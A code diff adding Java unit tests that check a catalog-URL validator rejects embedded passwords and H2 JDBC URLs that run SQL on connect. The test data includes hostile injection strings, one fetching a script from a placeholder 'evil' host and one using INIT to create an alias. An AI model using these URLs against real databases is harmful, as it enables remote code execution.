@@ -113,6 +113,19 @@ class ConfigurationTest {
                     .isEqualTo("Catalog URL 'mysql://db/images' is not supported; expected jdbc:postgresql://host:5432/database, "
                             + "or blank for the embedded catalog");
             assertThat(config.doCheckCatalogUrl("jdbc:postgresql://db/images?password=x").kind).isEqualTo(FormValidation.Kind.ERROR);
+            assertThat(config.doCheckCatalogUrl("jdbc:postgresql://app:s3cret@db/images").getMessage())
+                    .isEqualTo("Catalog URL carries a password; expected it in credentials (Catalog credentials), not in the URL")
+                    .doesNotContain("s3cret");
+            assertThat(config.doCheckCatalogUrl("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'").getMessage())
+                    .contains("runs SQL on connect (INIT or RUNSCRIPT)");
+            // not only the form: configure() and JCasC go through the setter, which refuses and keeps the old value
+            config.setCatalogUrl("jdbc:postgresql://db:5432/images");
+            assertThatThrownBy(() -> config.setCatalogUrl("jdbc:h2:mem:x;init=create alias x as 'void x(){}'"))
+                    .hasMessageContaining("runs SQL on connect");
+            assertThatThrownBy(() -> config.setCatalogUrl("jdbc:postgresql://db/images?user=app&password=s3cret"))
+                    .hasMessage("Catalog URL carries a password; expected it in credentials (Catalog credentials), not in the URL");
+            assertThat(config.getCatalogUrl()).isEqualTo("jdbc:postgresql://db:5432/images");
+            config.setCatalogUrl(null);
             assertThat(config.doCheckPackerPath("bin/packer").getMessage()).contains("'bin/packer' is not absolute");
 
             var environments = new EnvironmentConfig.DescriptorImpl();
